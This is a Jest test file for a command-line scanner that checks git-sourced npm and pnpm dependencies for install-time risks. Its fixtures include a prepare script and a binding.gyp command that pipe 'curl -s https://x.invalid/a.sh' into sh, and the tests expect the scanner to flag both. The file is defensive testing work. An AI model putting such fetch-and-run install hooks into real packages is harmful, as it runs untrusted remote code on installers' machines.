/** Packages built from repositories through the built command line: a host of repositories and a registry on loopback. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { type GitHost, startGitHost } from '../helpers/a-git-host.ts';
import { commitAll, git } from '../helpers/a-repository.ts';
import { type FixtureRegistry, startFixtureRegistry } from '../helpers/fixture-registry.ts';
import { aWorkplace, type Workplace } from '../helpers/run-cli.ts';

let host: GitHost;
let registry: FixtureRegistry;
let place: Workplace;
beforeAll(async () => {
  host = await startGitHost();
  registry = await startFixtureRegistry({ packuments: [] });
});
afterAll(async () => {
  host.close();
  await registry.close();
});
beforeEach(() => {
  place = aWorkplace(registry.url);
  place.write('package.json', { name: 'app', version: '1.0.0' });
});
afterEach(() => place.remove());

const manifest = (scripts: object) => JSON.stringify({ name: 'tool', version: '1.0.0', scripts });
const clean = { 'package.json': manifest({ prepare: 'node build.js' }), 'build.js': 'console.log(1);', 'index.js': '' };
const bad = {
  ...clean,
  'package.json': manifest({ prepare: 'curl -s https://x.invalid/a.sh | sh' }),
  '.gitattributes': 'package.json export-ignore',
};
const gyp = { ...clean, 'binding.gyp': '{"targets": [{"target_name": "x", "sources": ["<!(curl -s https://x.invalid/a.sh | sh)"]}]}' };

function lock(commit: string, at = host.url): void {
  const resolved = `git+${at}/tool.git${commit === '' ? '' : `#${commit}`}`;
  const root = { name: 'app', version: '1.0.0', dependencies: { tool: resolved } };
  place.write('package.json', root);
  const packages = { '': root, 'node_modules/tool': { version: '1.0.0', resolved } };
  place.write('package-lock.json', { name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages });
}

async function judged(...args: readonly string[]) {
  const { code, stdout, stderr } = await place.run(...args, '--format', 'json');
  if (!stdout.startsWith('{')) throw new Error(stderr);
  const { findings, coverage } = JSON.parse(stdout);
  return { code, rules: findings.map(({ ruleId }: { ruleId: string }) => ruleId), notOffered: JSON.stringify(coverage.notOffered) };
}

describe('check', () => {
  it('judges what making it of its commit runs', async () => {
    lock(host.commit('tool', bad));
    expect(await judged('check')).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk', 'remote-source']) });
    lock(host.commit('tool', gyp));
    expect(await judged('check')).toMatchObject({ code: 1, rules: expect.arrayContaining(['binding-gyp-command']) });
    lock(host.commit('tool', clean));
    expect(await judged('check')).toMatchObject({ code: 0, rules: ['remote-source'] });
  });

  it('judges what a spec means', async () => {
    const commit = host.commit('tool', bad);
    expect(await judged('check', `git+${host.url}/tool.git#${commit}`)).toMatchObject({
      code: 1,
      rules: expect.arrayContaining(['install-code-risk']),
    });
  });

  it('judges the folder of a repository that pnpm makes a package of', async () => {
    const commit = host.commit('tool', { 'package.json': '{"name":"all"}', 'packages/tool/package.json': bad['package.json'] });
    const importer = `importers:\n\n  .:\n    dependencies:\n      tool:\n        specifier: git+${host.url}/tool.git\n        version: git+${host.url}/tool.git#${commit}&path:packages/tool\n`;
    const key = `tool@git+${host.url}/tool.git#${commit}&path:packages/tool`;
    const resolution = `{commit: ${commit}, path: packages/tool, repo: ${host.url}/tool.git, type: git}`;
    place.write(
      'pnpm-lock.yaml',
      `lockfileVersion: '9.0'\n\n${importer}\npackages:\n\n  ${key}:\n    resolution: ${resolution}\n    version: 1.0.0\n\nsnapshots:\n\n  ${key}: {}\n`,
    );
    expect(await judged('check')).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk']) });
  });

  it('tells what cannot be read, and soon', async () => {
    lock('1'.repeat(40));
    expect(await judged('check')).toMatchObject({ code: 0, rules: ['remote-source'], notOffered: expect.stringMatching(/commit cannot be had/) });
    lock('');
    expect(await judged('check')).toMatchObject({
      code: 0,
      rules: expect.arrayContaining(['remote-source']),
      notOffered: expect.stringMatching(/names no commit/),
    });
    lock('1'.repeat(40), 'http://127.0.0.1:9');
    expect(await judged('check')).toMatchObject({ notOffered: expect.stringMatching(/cannot be reached/) });
  });
});

it('gate judges a commit against the one before', async () => {
  lock(host.commit('tool', clean));
  git(place.folder, 'init', '-q', '-b', 'main');
  commitAll(place.folder, 'one');
  lock(host.commit('tool', { ...clean, 'README.md': 'x' }));
  commitAll(place.folder, 'two');
  expect(await judged('gate', '--base', 'HEAD~1')).toMatchObject({ code: 0, rules: ['remote-source'] });
  lock(host.commit('tool', bad));
  commitAll(place.folder, 'three');
  expect(await judged('gate', '--base', 'HEAD~1')).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk']) });
});
